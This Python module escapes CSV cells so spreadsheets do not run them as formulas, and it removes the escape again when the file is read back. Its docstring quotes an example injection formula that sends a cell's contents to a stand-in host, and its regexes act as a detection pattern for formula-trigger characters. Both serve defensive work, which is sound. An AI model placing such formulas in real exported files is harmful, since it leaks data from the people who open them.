"""Cells of CSV files which spreadsheet programs do not take for formulas.

A note like `=HYPERLINK("http://site/?"&A1)` would run in the program of the person who opens the
file. An apostrophe before it makes it a text. It is removed when the file is read back.

A program may split the file in another way than it was written: at semicolons, where the comma is
the decimal sign, at tabs, or at line breaks. So a formula behind one of these gets an apostrophe,
too.

Source: OWASP, "CSV Injection".
"""

from __future__ import annotations

import re
from typing import TypeVar

SIGNS = "=+\\-@\uff1d\uff0b\uff0d\uff20"
"""First characters of formulas; the last four are the wide forms of the first four."""
FORMULA = re.compile(rf"(?:^|(?<=[;\t\r\n]))(?=[ ']*[{SIGNS}])|^(?='*[\t\r\n])")
"""Pattern of the places before a formula, maybe with blanks and apostrophes of its own."""
ESCAPED = re.compile(rf"(?:^|(?<=[;\t\r\n]))'(?=[ ']*[{SIGNS}])|^'(?='*[\t\r\n])")
APOSTROPHE = "'"

CellT = TypeVar("CellT")


def to_cell(value: CellT) -> CellT | str:
    """Return a value for a CSV file; numbers and harmless texts stay."""
    return FORMULA.sub(APOSTROPHE, value) if isinstance(value, str) else value


def from_cell(text: str) -> str:
    """Return the text from which `to_cell` made a cell."""
    return ESCAPED.sub("", text)
